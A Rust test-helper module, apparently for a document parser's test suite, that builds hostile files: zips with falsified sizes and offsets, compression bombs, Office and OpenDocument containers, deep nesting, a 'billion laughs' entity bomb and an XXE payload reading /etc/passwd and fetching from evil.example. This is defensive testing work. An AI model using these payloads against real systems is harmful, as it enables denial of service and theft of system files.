//! What hostile files are made of.

use std::io::{Cursor, Write};

/// A zip with these members, packed.
pub fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// An entry of a zip that may say anything of itself.
#[derive(Clone)]
pub struct Entry {
    pub name: String,
    /// What stands in the archive.
    pub data: Vec<u8>,
    pub method: u16,
    pub flags: u16,
    pub crc: u32,
    /// What the directory says that it unpacks to.
    pub size: u32,
    pub packed: u32,
    /// Of Unix, with the kind of file.
    pub mode: u32,
    /// Where its header is, if not where it is written. Then nothing is written.
    pub at: Option<u32>,
}

pub const STORED: u16 = 0;
pub const DEFLATED: u16 = 8;

impl Entry {
    pub fn stored(name: &str, data: &[u8]) -> Self {
        let crc = crc(data);
        Self::raw(name, data, STORED, u32::try_from(data.len()).unwrap(), crc)
    }

    pub fn deflated(name: &str, data: &[u8]) -> Self {
        Self::raw(name, &deflate(data), DEFLATED, u32::try_from(data.len()).unwrap(), crc(data))
    }

    fn raw(name: &str, data: &[u8], method: u16, size: u32, crc: u32) -> Self {
        let packed = u32::try_from(data.len()).unwrap();
        let (name, data) = (name.to_owned(), data.to_vec());
        Self { name, data, method, flags: 0, crc, size, packed, mode: 0o100_644, at: None }
    }
}

/// A zip whose headers and directory say what its entries say.
pub fn raw_zip(entries: &[Entry]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for entry in entries {
        let name = entry.name.as_bytes();
        let written = u32::try_from(out.len()).unwrap();
        let fields = |to: &mut Vec<u8>| {
            to.extend(20u16.to_le_bytes());
            to.extend(entry.flags.to_le_bytes());
            to.extend(entry.method.to_le_bytes());
            to.extend([0, 0, 0x21, 0]);
            to.extend(entry.crc.to_le_bytes());
            to.extend(entry.packed.to_le_bytes());
            to.extend(entry.size.to_le_bytes());
            to.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
            to.extend([0, 0]);
        };
        if entry.at.is_none() {
            out.extend(b"PK\x03\x04");
            fields(&mut out);
            out.extend(name);
            out.extend(&entry.data);
        }
        directory.extend(b"PK\x01\x02\x14\x03");
        fields(&mut directory);
        directory.extend([0; 6]);
        directory.extend((entry.mode << 16).to_le_bytes());
        directory.extend(entry.at.unwrap_or(written).to_le_bytes());
        directory.extend(name);
    }
    let start = u32::try_from(out.len()).unwrap();
    let count = u16::try_from(entries.len()).unwrap_or(u16::MAX).to_le_bytes();
    out.extend(&directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(count);
    out.extend(count);
    out.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0, 0]);
    out
}

pub fn crc(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// Bare deflate, as in zip.
pub fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(6));
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// Deflate in the frame of zlib, as in pdf and png.
pub fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(6));
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// So many MiB of one byte, in the frame of zlib, without ever holding them.
pub fn zlib_of(byte: u8, mib: usize) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(6));
    for _ in 0..mib {
        out.write_all(&vec![byte; 1 << 20]).unwrap();
    }
    out.finish().unwrap()
}

pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(6));
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

pub fn gzip_of(byte: u8, mib: usize) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(6));
    for _ in 0..mib {
        out.write_all(&vec![byte; 1 << 20]).unwrap();
    }
    out.finish().unwrap()
}

/// A Word document with this body; more parts, and relationships of the body.
pub fn docx(body: &str, parts: &[(&str, &str)], relations: &str) -> Vec<u8> {
    let document = format!(r#"<w:document xmlns:w="w" xmlns:r="r"><w:body>{body}</w:body></w:document>"#);
    docx_of(&document, parts, relations)
}

/// The same with all of its main part.
pub fn docx_of(document: &str, parts: &[(&str, &str)], relations: &str) -> Vec<u8> {
    let relations = format!("<Relationships>{relations}</Relationships>");
    let mut members = vec![
        ("[Content_Types].xml", &b"<Types/>"[..]),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", relations.as_bytes()),
    ];
    members.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    zip(&members)
}

pub fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// A workbook of one sheet with this XML after its start, more parts, and relationships of the workbook.
pub fn xlsx(sheet: &str, parts: &[(&str, &str)], relations: &str) -> Vec<u8> {
    xlsx_of(r#"<sheet name="S" sheetId="1" r:id="s"/>"#, sheet, parts, relations)
}

pub fn xlsx_of(sheets: &str, sheet: &str, parts: &[(&str, &str)], relations: &str) -> Vec<u8> {
    let workbook = format!("<workbook><sheets>{sheets}</sheets></workbook>");
    let sheet = format!("<worksheet>{sheet}</worksheet>");
    let relations = format!(
        r#"<Relationships><Relationship Id="s" Type="x/worksheet" Target="worksheets/s.xml"/>{relations}</Relationships>"#
    );
    let mut members = vec![
        ("[Content_Types].xml", &b"<Types/>"[..]),
        ("xl/worksheets/s.xml", sheet.as_bytes()),
        ("xl/_rels/workbook.xml.rels", relations.as_bytes()),
    ];
    if parts.iter().all(|(name, _)| *name != "xl/workbook.xml") {
        members.push(("xl/workbook.xml", workbook.as_bytes()));
    }
    members.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    zip(&members)
}

/// Rows of a sheet.
pub fn rows(rows: &str) -> String {
    format!("<sheetData>{rows}</sheetData>")
}

pub fn pptx(slide: &str, parts: &[(&str, &str)], relations: &str) -> Vec<u8> {
    let show = r#"<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst></p:presentation>"#;
    let list = r#"<Relationships><Relationship Id="s" Type="x/slide" Target="slides/slide1.xml"/></Relationships>"#;
    let slide = format!(r#"<p:sld xmlns:p="p" xmlns:a="a"><p:cSld><p:spTree>{slide}</p:spTree></p:cSld></p:sld>"#);
    let relations = format!("<Relationships>{relations}</Relationships>");
    let mut members = vec![
        ("[Content_Types].xml", &b"<Types/>"[..]),
        ("ppt/presentation.xml", show.as_bytes()),
        ("ppt/_rels/presentation.xml.rels", list.as_bytes()),
        ("ppt/slides/slide1.xml", slide.as_bytes()),
        ("ppt/slides/_rels/slide1.xml.rels", relations.as_bytes()),
    ];
    members.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    zip(&members)
}

/// An OpenDocument file with this body (`<office:text>…`) behind these declarations.
pub fn odf(declarations: &str, body: &str, parts: &[(&str, &str)]) -> Vec<u8> {
    let content = format!("<?xml version=\"1.0\"?>{declarations}<d><office:body>{body}</office:body></d>");
    let mut members = vec![("content.xml", content.as_bytes())];
    members.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    zip(&members)
}

/// Entities that refer to each other, nine deep and ten wide.
pub fn laughs() -> String {
    let mut dtd = "<!DOCTYPE l [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..10 {
        let inner = format!("&l{};", level - 1).repeat(10);
        dtd.push_str(&format!("<!ENTITY l{level} \"{inner}\">"));
    }
    dtd + "]>"
}

pub fn outside() -> String {
    "<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY % y SYSTEM \"http://evil.example/y\">%y;]>"
        .to_owned()
}

/// `open` so many times, then `middle`, then `close` as often.
pub fn nested(open: &str, middle: &str, close: &str, depth: usize) -> String {
    format!("{}{middle}{}", open.repeat(depth), close.repeat(depth))
}
